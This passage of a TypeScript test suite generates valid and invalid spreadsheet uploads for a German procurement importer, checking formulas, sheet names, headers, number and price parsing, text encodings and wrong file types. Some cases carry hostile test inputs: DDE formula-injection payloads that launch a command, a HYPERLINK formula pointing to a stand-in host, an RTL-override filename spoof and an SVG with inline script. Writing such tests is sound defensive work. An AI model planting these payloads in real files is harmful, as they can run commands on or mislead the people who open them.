      [{ code, quantity: 42 }],
    );
    badDemand(
      cat,
      "quantity-formula-without-value",
      { [`F${FIRST_ROW}`]: cell.formula("2*21") },
      M.formulaNoValue,
    );
    badDemand(
      cat,
      "quantity-formula-text-result",
      { [`F${FIRST_ROW}`]: cell.formula('"zwei"', "zwei", "str") },
      M.notNumber,
    );
    badDemand(
      cat,
      "quantity-formula-error-result",
      { [`F${FIRST_ROW}`]: cell.formula("1/0", "#DIV/0!", "e") },
      M.notNumber,
    );
    badDemand(
      cat,
      "quantity-formula-fractional-result",
      { [`F${FIRST_ROW}`]: cell.formula("1/3", 1 / 3) },
      M.notWhole,
    );
    // A formula counts with the value it shows; the formula itself is never kept or run.
    validDemand(
      cat,
      "quantity-dde-formula-with-value",
      [{ code, quantity: 1 }],
      { [`F${FIRST_ROW}`]: cell.formula("cmd|' /C calc'!A0", "7") },
      [{ code, quantity: 7 }],
    );
    const sharedRows = itemRows.map((r) => r.row);
    validDemand(
      cat,
      "shared-formula-with-values",
      itemRows.map((r) => ({ code: r.code, quantity: 1 })),
      Object.fromEntries(
        sharedRows.map((row, i) => [
          `F${row}`,
          i === 0
            ? cell.raw(
                `<f t="shared" ref="F${row}:F${sharedRows.at(-1)}" si="0">ROW()-${row - 10}</f><v>10</v>`,
              )
            : cell.raw(`<f t="shared" si="0"/><v>${10 + i}</v>`),
        ]),
      ),
      itemRows.map((r, i) => ({ code: r.code, quantity: 10 + i })),
    );
    badDemand(
      cat,
      "shared-formula-children-without-values",
      Object.fromEntries(
        sharedRows.map((row, i) => [
          `F${row}`,
          i === 0
            ? cell.raw(`<f t="shared" ref="F${row}:F${sharedRows.at(-1)}" si="0">1</f><v>1</v>`)
            : cell.raw('<f t="shared" si="0"/>'),
        ]),
      ),
      M.formulaNoValue,
    );
    badDemand(
      cat,
      "shared-formula-dangling-index",
      { [`F${FIRST_ROW}`]: cell.raw('<f t="shared" si="77"/>') },
      M.formulaNoValue,
    );
    validDemand(
      cat,
      "shared-formula-dangling-index-with-value",
      [{ code, quantity: 1 }],
      { [`F${FIRST_ROW}`]: cell.raw('<f t="shared" si="77"/><v>8</v>') },
      [{ code, quantity: 8 }],
    );
    validDemand(
      cat,
      "array-formula-with-value",
      [{ code, quantity: 1 }],
      { [`F${FIRST_ROW}`]: cell.raw(`<f t="array" ref="F${FIRST_ROW}">SUM(1,2)</f><v>3</v>`) },
      [{ code, quantity: 3 }],
    );
    badDemand(
      cat,
      "item-code-as-formula",
      {
        [`A${firstFreeRow}`]: cell.formula('"A00"&"9"', "A009", "str"),
        [`F${firstFreeRow}`]: cell.number(1),
      },
      M.unknownCode,
    );
    validDemand(
      cat,
      "item-code-formula-with-valid-result",
      [
        { code, quantity: 1 },
        { code, quantity: 2, costCentre: "F" },
      ],
      { [`A${firstFreeRow}`]: cell.formula(`"${code}"`, code, "str") },
    );
    validPrice(cat, "price-formula-with-cached-value", goodPrices(80_000), {
      cells: (() => {
        const c = asCells(goodPrices(80_000));
        const lot = context.lots[0]!.number;
        c[lot]![0]![0] = cell.formula("4+4", 8);
        return c;
      })(),
    });
    badPrice(
      cat,
      "price-formula-without-value",
      oneBadPrice(cell.formula("4+4"), 0, 0),
      M.formulaNoValue,
    );
    badPrice(
      cat,
      "price-formula-text-result",
      oneBadPrice(cell.formula('"billig"', "billig", "str"), 0, 0),
      M.formulaNoValue,
    );
    badPrice(cat, "bidder-name-dde-formula", asCells(goodPrices(80_000)), M.formulaInText, {
      name: cell.formula("cmd|' /C calc'!A0", "0"),
    });
    validPrice(cat, "bidder-name-dde-as-text", goodPrices(80_000), {
      name: `=cmd|' /C calc'!A0 ${++bidders}`,
    });
    validPrice(cat, "bidder-name-hyperlink-as-text", goodPrices(80_000), {
      name: `=HYPERLINK("http://boese.example","Bieter ${++bidders}")`,
    });
    badPrice(
      cat,
      "shared-price-formula-children-empty",
      (() => {
        const c = asCells(goodPrices(80_000));
        const lot = context.lots[0]!.number;
        c[lot]![0]![0] = cell.raw(`<f t="shared" ref="G7:G9" si="0">1</f><v>1</v>`);
        c[lot]![0]![1] = cell.raw('<f t="shared" si="0"/>');
        return c;
      })(),
      M.formulaNoValue,
    );
  }

  // ── Wrong sheets, missing sheets, renamed headers ──
  {
    const cat: Category = "blaetter-und-kopfzeilen";
    const code = itemRows[0]!.code;
    const ok = [{ code, quantity: 3 }];
    const q = { [`F${FIRST_ROW}`]: cell.number(3) };
    const renameSheet = (from: string, to: string) => (b: Book) =>
      b.edit("xl/workbook.xml", (x) => x.replace(`name="${from}"`, `name="${to}"`));
    const dropSheet = (name: string) => (b: Book) =>
      b.edit("xl/workbook.xml", (x) =>
        x.replace(new RegExp(`<sheet [^>]*name="${name}"[^>]*/>`), ""),
      );
    badDemand(cat, "demand-sheet-renamed", q, M.noDemandSheet, renameSheet("Bedarf", "Tabelle1"));
    badDemand(cat, "demand-sheet-lowercase", q, M.noDemandSheet, renameSheet("Bedarf", "bedarf"));
    badDemand(
      cat,
      "demand-sheet-trailing-space",
      q,
      M.noDemandSheet,
      renameSheet("Bedarf", "Bedarf "),
    );
    badDemand(
      cat,
      "control-sheet-renamed",
      q,
      M.noDemandSheet,
      renameSheet("Steuerung", "Steuerung2"),
    );
    badDemand(cat, "control-sheet-dropped", q, M.noDemandSheet, dropSheet("Steuerung"));
    badDemand(cat, "demand-sheet-dropped", q, M.noDemandSheet, dropSheet("Bedarf"));
    badDemand(cat, "demand-sheet-part-missing", q, M.noDemandSheet, (b) =>
      b.remove(b.sheetPart("Bedarf")),
    );
    badDemand(cat, "sheets-swapped", q, M.format, (b) =>
      b.edit("xl/workbook.xml", (x) =>
        x
          .replace('name="Bedarf"', 'name="TMP"')
          .replace('name="Steuerung"', 'name="Bedarf"')
          .replace('name="TMP"', 'name="Steuerung"'),
      ),
    );
    validDemand(cat, "sheets-reordered", ok, q, ok, (b) =>
      b.edit("xl/workbook.xml", (x) => {
        const sheets = /<sheets>([\s\S]*?)<\/sheets>/.exec(x)![1]!;
        const tags = sheets.match(/<sheet [^>]*\/>/g)!;
        return x.replace(sheets, [...tags].reverse().join(""));
      }),
    );
    validDemand(cat, "control-sheet-visible", ok, q, ok, (b) =>
      b.edit("xl/workbook.xml", (x) => x.replace('state="veryHidden"', 'state="visible"')),
    );
    validDemand(cat, "extra-sheet", ok, q, ok, (b) => {
      b.set(
        "xl/worksheets/sheet9.xml",
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
      );
      b.edit("xl/_rels/workbook.xml.rels", (x) =>
        x.replace(
          "</Relationships>",
          '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
        ),
      );
      b.edit("xl/workbook.xml", (x) =>
        x.replace("</sheets>", '<sheet sheetId="9" name="Notizen" r:id="rId99"/></sheets>'),
      );
    });
    // Excel refuses two sheets of one name; so does exceljs, and the upload with it.
    add(
      cat,
      "duplicate-sheet-name",
      demandFile(q, (b) => {
        b.set(
          "xl/worksheets/sheet9.xml",
          '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>',
        );
        b.edit("xl/_rels/workbook.xml.rels", (x) =>
          x.replace(
            "</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
          ),
        );
        b.edit("xl/workbook.xml", (x) =>
          x.replace("</sheets>", '<sheet sheetId="9" name="Bedarf" r:id="rId99"/></sheets>'),
        );
      }),
      forBoth(M.corrupt),
    );
    const headers = [
      "Artikel-Nr.",
      "Artikel",
      "Einheit",
      "CPV",
      "Referenzpreis",
      "Menge",
      "Kostenstelle",
      "Produkt",
      "Sachkonto",
      "Lieferadresse",
      "Bemerkung",
      "Summe",
      "Artikel-ID",
    ];
    headers.forEach((header, i) => {
      const ref = `${String.fromCharCode(65 + i)}6`;
      badDemand(cat, `header-${i + 1}-renamed`, q, M.header, (b) =>
        b.cells(DEMAND, { [ref]: cell.text(`${header} (neu)`) }),
      );
    });
    badDemand(cat, "header-menge-anzahl", q, M.header, (b) =>
      b.cells(DEMAND, { F6: cell.text("Anzahl") }),
    );
    badDemand(cat, "headers-swapped", q, M.header, (b) =>
      b.cells(DEMAND, { F6: cell.text("Kostenstelle"), G6: cell.text("Menge") }),
    );
    badDemand(cat, "header-row-emptied", q, M.header, (b) =>
      b.edit(b.sheetPart(DEMAND), (x) => x.replace(/<row r="6"[\s\S]*?<\/row>/, "")),
    );
    badDemand(cat, "header-as-number", q, M.header, (b) => b.cells(DEMAND, { F6: cell.number(0) }));
    validDemand(cat, "header-padded-with-spaces", ok, q, ok, (b) =>
      b.cells(DEMAND, { F6: cell.text("  Menge  ") }),
    );
    badDemand(cat, "control-version-2", q, M.format, (b) =>
      b.cells("Steuerung", { B2: cell.number(2) }),
    );
    badDemand(cat, "control-version-text", q, M.format, (b) =>
      b.cells("Steuerung", { B2: cell.text("eins") }),
    );
    badDemand(cat, "control-other-round", q, M.otherRound, (b) =>
      b.cells("Steuerung", { B3: cell.text("00000000-0000-4000-8000-000000000000") }),
    );
    badDemand(cat, "control-other-body", q, M.otherBody, (b) =>
      b.cells("Steuerung", { B4: cell.text("00000000-0000-4000-8000-000000000000") }),
    );
    badDemand(cat, "control-round-as-formula-result", q, M.otherRound, (b) =>
      b.cells("Steuerung", { B3: cell.formula("B4", "x", "str") }),
    );
    badDemand(cat, "control-item-id-changed", q, M.mapping, (b) =>
      b.cells("Steuerung", { B8: cell.text("00000000-0000-4000-8000-000000000000") }),
    );
    badDemand(cat, "control-item-code-changed", q, M.mapping, (b) =>
      b.cells("Steuerung", { A8: cell.text("B001") }),
    );
    badDemand(cat, "control-sheet-emptied", q, M.format, (b) =>
      b.edit(b.sheetPart("Steuerung"), (x) =>
        x.replace(/<sheetData>[\s\S]*<\/sheetData>/, "<sheetData/>"),
      ),
    );
    badDemand(cat, "item-row-hidden-id-swapped", q, /passt nicht zum Artikel dieser Zeile/, (b) =>
      b.cells(DEMAND, { [`M${FIRST_ROW}`]: cell.text("00000000-0000-4000-8000-000000000000") }),
    );
    // Price sheets
    const good = asCells(goodPrices(90_000));
    const renamePrice = (from: string, to: string) => (b: Book) =>
      b.edit("xl/workbook.xml", (x) => x.replace(`name="${from}"`, `name="${to}"`));
    badPrice(cat, "cover-renamed", good, M.noPriceSheet, {
      edit: renamePrice("Angebot", "Deckblatt"),
    });
    badPrice(cat, "price-control-renamed", good, M.noPriceSheet, {
      edit: renamePrice("Steuerung", "Daten"),
    });
    badPrice(cat, "lot-sheet-renamed", good, M.lotSheetMissing, {
      edit: renamePrice("Los 1", "Los 01"),
    });
    badPrice(cat, "lot-sheet-dropped", good, M.lotSheetMissing, {
      edit: (b) =>
        b.edit("xl/workbook.xml", (x) => x.replace(/<sheet [^>]*name="Los 2"[^>]*\/>/, "")),
    });
    badPrice(cat, "lot-header-renamed", good, M.header, {
      edit: (b) => b.cells("Los 1", { G6: cell.text("Preis") }),
    });
    badPrice(cat, "lot-quantity-changed", good, M.protectedCell, {
      edit: (b) => b.cells("Los 1", { E7: cell.number(1) }),
    });
    badPrice(cat, "lot-band-changed", good, M.protectedCell, {
      edit: (b) => b.cells("Los 1", { F8: cell.text("ab 1") }),
    });
    badPrice(cat, "lot-row-deleted", good, M.protectedCell, {
      edit: (b) => b.edit(b.sheetPart("Los 1"), (x) => x.replace(/<row r="8"[\s\S]*?<\/row>/, "")),
    });
    badPrice(cat, "price-control-other-tender", good, M.otherTender, {
      edit: (b) =>
        b.cells("Steuerung", {
          B3: cell.text("00000000-0000-4000-8000-000000000000"),
          B4: cell.text("X".repeat(500)),
        }),
    });
    badPrice(cat, "price-control-version", good, M.format, {
      edit: (b) => b.cells("Steuerung", { B2: cell.number(7) }),
    });
    badPrice(cat, "price-control-row-changed", good, M.control, {
      edit: (b) => b.cells("Steuerung", { F8: cell.number(5) }),
    });
    const controlRows = context.lots.reduce(
      (n, lot) => n + lot.bands.reduce((a, b) => a + b, 0),
      0,
    );
    badPrice(cat, "price-control-extra-row", good, M.control, {
      edit: (b) => b.cells("Steuerung", { [`A${8 + controlRows}`]: cell.text("Los 9") }),
    });
    badPrice(cat, "no-prices-at-all", {}, M.noPrices);
    badPrice(cat, "no-bidder-name", good, M.noBidder, { name: cell.text("   ") });
    badPrice(cat, "bidder-name-boolean", good, M.notText, { name: cell.bool(true) });
  }

  // ── Numbers ──
  {
    const cat: Category = "zahlen";
    const code = itemRows[0]!.code;
    const quantity: [string, CellXml, RegExp | number | null][] = [
      ["negative", cell.number(-1), M.negative],
      ["negative-text", cell.text("-5"), M.negative],
      ["fraction", cell.number(2.5), M.notWhole],
      ["fraction-text-comma", cell.text("2,5"), M.notWhole],
      ["fraction-text-point", cell.text("2.50"), M.notWhole],
      ["tiny-fraction", cell.number(1e-300), M.notWhole],
      ["word", cell.text("zwei"), M.notNumber],
      ["nan", cell.number("NaN"), M.notNumber],
      ["inf", cell.number("INF"), M.notNumber],
      ["infinity", cell.number("Infinity"), M.notNumber],
      ["minus-infinity", cell.number("-Infinity"), M.notNumber],
      ["overflow-1e309", cell.number("1e309"), M.notNumber],
      ["huge-1e308", cell.number(1e308), M.tooLargeNumber],
      ["max-safe-plus-2", cell.number("9007199254740993"), M.tooLargeNumber],
      ["just-over-limit", cell.number(100_000_001), M.tooLargeNumber],
      ["exponent-as-text", cell.text("1e5"), M.notNumber],
      ["exponent-upper-as-text", cell.text("1E+400"), M.notNumber],
      ["hex-as-text", cell.text("0x10"), M.notNumber],
      ["arabic-indic-digits", cell.text("٣"), M.notNumber],
      ["fullwidth-digits", cell.text("５"), M.notNumber],
      ["thousands-wrong-group", cell.text("1.0000"), M.notWhole],
      ["currency-text", cell.text("5 €"), M.notNumber],
      ["percent-text", cell.text("50%"), M.notNumber],
      ["boolean", cell.bool(true), M.notNumber],
      ["error-na", cell.error("#N/A"), M.notNumber],
      ["date-styled", cell.number(45_000), M.notNumber],
      ["garbage-after-number", cell.number("12abc"), M.misread],
      ["hex-stored", cell.number("0x10"), M.misread],
      ["comma-stored", cell.number("3,5"), M.misread],
      ["space-inside-stored", cell.number("1 000"), M.misread],
      ["empty-string-stored-as-shared", cell.raw("<v>x</v>", ' t="s"'), M.misread],
      ["iso-date-cell", cell.raw("<v>2024-01-01</v>", ' t="d"'), M.misread],
      ["two-values", cell.raw("<v>1</v><v>2</v>"), M.misread],
      ["value-with-attribute", cell.raw('<v xml:space="preserve">12abc</v>'), M.misread],
      ["unknown-cell-type", cell.raw("<v>12</v>", ' t="x"'), M.misread],
      ["shared-string-negative-index", cell.raw("<v>-1</v>", ' t="s"'), M.misread],
      ["stored-1e5", cell.number("1e5"), 100_000],
      ["stored-1E+2", cell.number("1E+2"), 100],
      ["stored-7.0", cell.number("7.0"), 7],
      ["stored-plus-7", cell.number("+7"), 7],
      ["max-allowed", cell.number(100_000_000), 100_000_000],
      ["text-with-thousands", cell.text("1.000"), 1000],
      ["text-with-nbsp-thousands", cell.text("1\u00a0000"), 1000],
      ["text-with-narrow-nbsp", cell.text("12\u202f345"), 12_345],
      ["text-padded", cell.text("  7 "), 7],
      ["text-plus", cell.text("+8"), 8],
      ["zero", cell.number(0), null],
      ["minus-zero", cell.number("-0"), null],
      ["empty-text", cell.text("   "), null],
    ];
    for (const [name, value, outcome] of quantity) {
      const edit =
        name === "date-styled"
          ? (b: Book) =>
              b.cells(DEMAND, {
                [`F${FIRST_ROW}`]: cell.raw("<v>45000</v>", ` s="${b.style(14)}"`),
              })
          : undefined;
      if (outcome === M.misread)
        add(cat, `quantity-${name}`, demandFile({ [`F${FIRST_ROW}`]: value }), forBoth(M.misread));
      else if (outcome instanceof RegExp)
        badDemand(cat, `quantity-${name}`, { [`F${FIRST_ROW}`]: value }, outcome, edit);
      else
        validDemand(
          cat,
          `quantity-${name}`,
          [],
          { [`F${FIRST_ROW}`]: value },
          outcome === null ? [] : [{ code, quantity: outcome }],
        );
    }
    // Property samples: whole numbers inside the range import, outside are refused.
    sampled(fc.integer({ min: 1, max: 100_000_000 }), 12, 10).forEach((n, i) =>
      validDemand(cat, `sampled-valid-${i}-${n}`, [{ code, quantity: n }]),
    );
    sampled(fc.integer({ min: 100_000_001, max: Number.MAX_SAFE_INTEGER }), 6, 11).forEach((n, i) =>
      badDemand(
        cat,
        `sampled-too-large-${i}`,
        { [`F${FIRST_ROW}`]: cell.number(n) },
        M.tooLargeNumber,
      ),
    );
    sampled(fc.integer({ min: -1_000_000_000, max: -1 }), 6, 12).forEach((n, i) =>
      badDemand(cat, `sampled-negative-${i}`, { [`F${FIRST_ROW}`]: cell.number(n) }, M.negative),
    );
    sampled(
      fc.double({ min: 0.001, max: 1e6, noNaN: true }).filter((d) => !Number.isInteger(d)),
      6,
      13,
    ).forEach((d, i) =>
      badDemand(cat, `sampled-fraction-${i}`, { [`F${FIRST_ROW}`]: cell.number(d) }, M.notWhole),
    );
    // Prices
    const price: [string, CellXml, RegExp | number][] = [
      ["negative", cell.number(-1), M.negative],
      ["negative-text", cell.text("-3,95"), M.negative],
      ["negative-unicode-minus", cell.text("−3,95"), M.negative],
      ["five-decimals", cell.number(0.00001), M.decimals],
      ["five-decimals-text", cell.text("1,23456"), M.decimals],
      ["float-noise", cell.number(0.1 + 0.2), M.decimals],
      ["denormal", cell.number(5e-324), M.decimals],
      ["over-limit", cell.number(1_000_000.01), M.tooLargeNumber],
      ["over-limit-text", cell.text("1.000.000,01"), M.tooLargeNumber],
      ["huge", cell.number(1e308), M.tooLargeNumber],
      ["nan", cell.number("NaN"), M.notNumber],
      ["infinity", cell.number("Infinity"), M.notNumber],
      ["overflow", cell.number("1e400"), M.notNumber],
      ["word", cell.text("billig"), M.notNumber],
      ["english-decimal-text", cell.text("3.95"), M.invalidAmount],
      ["exponent-text", cell.text("1e3"), M.notNumber],
      ["garbage-after-number", cell.number("3.95abc"), M.misread],
      ["boolean", cell.bool(false), M.notNumber],
      ["error", cell.error("#VALUE!"), M.notNumber],
      ["zero", cell.number(0), 0],
      ["text-with-euro", cell.text("3,95 €"), 39_500],
      ["text-with-eur", cell.text("3,95 EUR"), 39_500],
      ["text-thousands", cell.text("1.234,5678"), 12_345_678],
      ["four-decimals", cell.number(0.0001), 1],
      ["max", cell.number(1_000_000), 10_000_000_000],
      ["stored-exponent", cell.number("1.5e2"), 1_500_000],
    ];
    for (const [name, value, outcome] of price) {
      if (outcome === M.misread) {
        add(
          cat,
          `price-${name}`,
          priceFile({ name: cell.text("Kaputt AG") }, oneBadPrice(value, 0, 0)),
          forBoth(M.misread),
        );
      } else if (outcome instanceof RegExp) {
        badPrice(cat, `price-${name}`, oneBadPrice(value, 0, 0), outcome);
      } else {
        // Every band of item 1 of lot 1 gets the value (bands must not rise), the rest is good.
        const prices = goodPrices(2_000_000);
        const lot = context.lots[0]!.number;
        prices[lot]![0] = prices[lot]![0]!.map(() => outcome);
        const cells = asCells(prices);
        cells[lot]![0] = cells[lot]![0]!.map(() => value);
        validPrice(cat, `price-${name}`, prices, { cells });
      }
    }
    sampled(
      fc.array(fc.integer({ min: 0, max: 10_000_000_000 }), { minLength: 30, maxLength: 30 }),
      12,
      14,
    ).forEach((values, i) => {
      let k = 0;
      const prices = Object.fromEntries(
        context.lots.map((lot) => [
          lot.number,
          lot.bands.map((bands) =>
            Array.from({ length: bands }, () => values[k++ % values.length]!).sort((a, b) => b - a),
          ),
        ]),
      );
      validPrice(cat, `sampled-valid-prices-${i}`, prices);
    });
  }

  // ── Mixed encodings ──
  {
    const cat: Category = "kodierungen";
    const code = itemRows[0]!.code;
    const csv = "Artikel-Nr.;Menge;Kostenstelle\nA001;5;KST Müller\n";
    add(cat, "csv-utf8-renamed", new TextEncoder().encode(csv), forBoth(M.text));
    add(
      cat,
      "csv-utf8-bom-renamed",
      toBytes(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv)])),
      forBoth(M.text),
    );
    add(
      cat,
      "csv-utf16le-bom-renamed",
      toBytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv, "utf16le")])),
      forBoth(M.text),
    );
    add(
      cat,
      "csv-utf16be-bom-renamed",
      toBytes(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(csv, "utf16le").swap16()])),
      forBoth(M.text),
    );
    add(cat, "csv-latin1-renamed", toBytes(Buffer.from(csv, "latin1")), forBoth(M.text));
    add(cat, "tsv-renamed", new TextEncoder().encode(csv.replace(/;/g, "\t")), forBoth(M.text));
    add(
      cat,
      "html-table-renamed",
      new TextEncoder().encode(
        "<html><body><table><tr><td>A001</td><td>5</td></tr></table></body></html>",
      ),
      forBoth(M.text),
    );
    add(
      cat,
      "spreadsheetml-2003-renamed",
      new TextEncoder().encode(
        '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Bedarf"/></Workbook>',
      ),
      forBoth(M.text),
    );
    add(
      cat,
      "json-renamed",
      new TextEncoder().encode(JSON.stringify({ Bedarf: [{ code: "A001", menge: 5 }] })),
      forBoth(M.text),
    );
    const text = (
      id: string,
      value: string,
      expected: string | RegExp,
      key: "costCentre" | "note" = "costCentre",
    ) => {
      const column = key === "note" ? "K" : "G";
      if (expected instanceof RegExp)
        badDemand(
          cat,
          id,
          { [`F${FIRST_ROW}`]: cell.number(1), [`${column}${FIRST_ROW}`]: cell.text(value) },
          expected,
        );
      else validDemand(cat, id, [{ code, quantity: 1, [key]: expected }]);
    };
    text("latin1-mojibake", "MÃ¼ller KST", "MÃ¼ller KST");
    text("umlauts-and-sharp-s", "Straßenbau Ölmühle", "Straßenbau Ölmühle");
    text("bom-inside", "KST\ufeff7", "KST\ufeff7");
    text("zero-width-space", "KST\u200b7", "KST\u200b7");
    text("zero-width-joiner", "👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧");
    text("rtl-override", "KST \u202eevil.exe", "KST \u202eevil.exe");
    text("rtl-arabic", "مركز التكلفة 7", "مركز التكلفة 7");
    text("hebrew-mixed", "KST שלום 12", "KST שלום 12");
    text("combining-marks", "Ku\u0308che", "Ku\u0308che");
    text("emoji", "🧻 Papier", "🧻 Papier");
    text("line-separator", "Zeile\u2028zwei", "Zeile\u2028zwei", "note");
    // XML reads a line break stored as CR LF as LF.
    text("tab-and-newlines", "a\tb\r\nc", "a\tb\nc", "note");
    text("nbsp-only-is-empty", "\u00a0\u00a0", "", "note");
    text("cjk", "成本中心", "成本中心");
    text("private-use", "\ue000\uf8ff", "\ue000\uf8ff");
    add(
      cat,
      "noncharacter-in-xml",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(1), [`G${FIRST_ROW}`]: cell.text("x\uffffy") }),
      forBoth(M.corrupt),
    );
    const escaped = (id: string, raw: string, expected: RegExp | string) => {
      if (expected instanceof RegExp) {
        badDemand(cat, id, { [`F${FIRST_ROW}`]: cell.number(1) }, expected, (b) => {
          const i = b.sharedString(raw);
          b.cells(DEMAND, { [`G${FIRST_ROW}`]: cell.raw(`<v>${i}</v>`, ' t="s"') });
        });
      } else {
        validDemand(
          cat,
          id,
          [{ code, quantity: 1 }],
          {},
          [{ code, quantity: 1, costCentre: expected }],
          (b) => {
            const i = b.sharedString(raw);
            b.cells(DEMAND, { [`G${FIRST_ROW}`]: cell.raw(`<v>${i}</v>`, ' t="s"') });
          },
        );
      }
    };
    escaped("escaped-nul", "KST_x0000_1", M.control_chars);
    escaped("escaped-bell", "KST_x0007_", M.control_chars);
    escaped("escaped-escape", "_x001B_[31mrot", M.control_chars);
    escaped("escaped-del", "KST_x007F_", M.control_chars);
    escaped("escaped-lone-high-surrogate", "KST_xD800_", M.badChars);
    escaped("escaped-lone-low-surrogate", "_xDC00_KST", M.badChars);
    escaped("escaped-pair", "_xD83D__xDE00_", "😀");
    escaped("escaped-tab-is-text", "A_x0009_B", "A\tB");
    add(
      cat,
      "raw-control-char-in-xml",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(1), [`G${FIRST_ROW}`]: cell.text("KST\u0001") }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "raw-nul-byte-in-xml",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(1), [`G${FIRST_ROW}`]: cell.text("KST\u0000") }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "invalid-utf8-in-xml",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(1) }, (b) => {
        const part = b.sheetPart(DEMAND);
        const [head, tail] = b.get(part).split("</sheetData>");
        b.set(
          part,
          Buffer.concat([
            Buffer.from(`${head}<row r="300"><c r="G300" t="inlineStr"><is><t>`),
            Buffer.from([0xc3, 0x28, 0xff]),
            Buffer.from(`</t></is></c></row></sheetData>${tail}`),
          ]),
        );
      }),
      forBoth(M.corrupt),
    );
    validPrice(cat, "bidder-rtl-and-zero-width", goodPrices(100_000), {
      name: `Bieter\u202e ${++bidders}\u200b GmbH`,
      address: "Straße 1\nשלום",
    });
    badPrice(cat, "bidder-control-char", asCells(goodPrices(100_000)), M.control_chars, {
      edit: (b) => {
        const i = b.sharedString("Bieter_x0000_");
        b.cells(COVER, { B9: cell.raw(`<v>${i}</v>`, ' t="s"') });
      },
    });
    badPrice(cat, "bidder-lone-surrogate", asCells(goodPrices(100_000)), M.badChars, {
      edit: (b) => {
        const i = b.sharedString("Bieter_xDFFF_");
        b.cells(COVER, { B9: cell.raw(`<v>${i}</v>`, ' t="s"') });
      },
    });
    validDemand(
      cat,
      "rich-text-runs",
      [{ code, quantity: 1 }],
      { [`G${FIRST_ROW}`]: cell.richText(["KST ", "fett", " 7"]) },
      [{ code, quantity: 1, costCentre: "KST fett 7" }],
    );
    validDemand(
      cat,
      "shared-string-for-code",
      [],
      {},
      [{ code, quantity: 2, costCentre: "S" }],
      (b) => {
        const i = b.sharedString(code);
        b.cells(DEMAND, {
          [`A${firstFreeRow}`]: cell.raw(`<v>${i}</v>`, ' t="s"'),
          [`F${firstFreeRow}`]: cell.number(2),
          [`G${firstFreeRow}`]: cell.text("S"),
        });
      },
    );
    validDemand(
      cat,
      "code-lowercase-with-spaces",
      [],
      {},
      [{ code, quantity: 2, costCentre: "L" }],
      (b) =>
        b.cells(DEMAND, {
          [`A${firstFreeRow}`]: cell.text(` ${code.toLowerCase()} `),
          [`F${firstFreeRow}`]: cell.number(2),
          [`G${firstFreeRow}`]: cell.text("L"),
        }),
    );
  }

  // ── Not a spreadsheet at all ──
  {
    const cat: Category = "falscher-dateityp";
    const bytes = (...values: number[]) => Uint8Array.from(values);
    add(cat, "empty-file", new Uint8Array(0), forBoth(M.empty), "leer.xlsx");
    add(cat, "one-byte", bytes(0x50), forBoth(M.notXlsx));
    add(cat, "pk-only", bytes(0x50, 0x4b), forBoth(M.corrupt));
    add(
      cat,
      "pk-empty-archive-marker",
      bytes(0x50, 0x4b, 0x05, 0x06, ...new Array(18).fill(0)),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "pdf",
      new TextEncoder().encode("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"),
      forBoth(M.pdf),
      "Bedarf.pdf",
    );
    add(cat, "pdf-renamed", new TextEncoder().encode("%PDF-1.4\n%âãÏÓ\n"), forBoth(M.pdf));
    add(
      cat,
      "png",
      bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52),
      forBoth(M.image),
    );
    add(
      cat,
      "jpeg",
      bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46),
      forBoth(M.image),
    );
    add(cat, "gif", new TextEncoder().encode("GIF89a\u0001\u0000"), forBoth(M.image));
    add(
      cat,
      "old-xls-ole",
      bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(504).fill(0)),
      forBoth(M.oldExcel),
      "Bedarf.xls",
    );
    add(
      cat,
      "exe",
      toBytes(Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0)])),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "elf",
      bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "seven-zip",
      bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, ...new Array(24).fill(0)),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "rar",
      bytes(0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0, ...new Array(24).fill(0)),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "svg",
      new TextEncoder().encode(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      ),
      forBoth(M.text),
    );
    sampled(fc.uint8Array({ minLength: 1, maxLength: 4096 }), 12, 20).forEach((random, i) => {
      const zipLike = random.length >= 2 && random[0] === 0x50 && random[1] === 0x4b;
      add(
        cat,
        `random-bytes-${i}`,
        random,
        forBoth(zipLike ? M.corrupt : /keine Excel-Arbeitsmappe/),
      );
    });
    sampled(fc.uint8Array({ minLength: 30, maxLength: 2048 }), 8, 21).forEach((random, i) => {
      add(
        cat,
        `zip-header-then-random-${i}`,
        toBytes(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(random)])),
        forBoth(M.corrupt),
      );
    });
  }

  // ── A valid file with one bad row in the middle ──
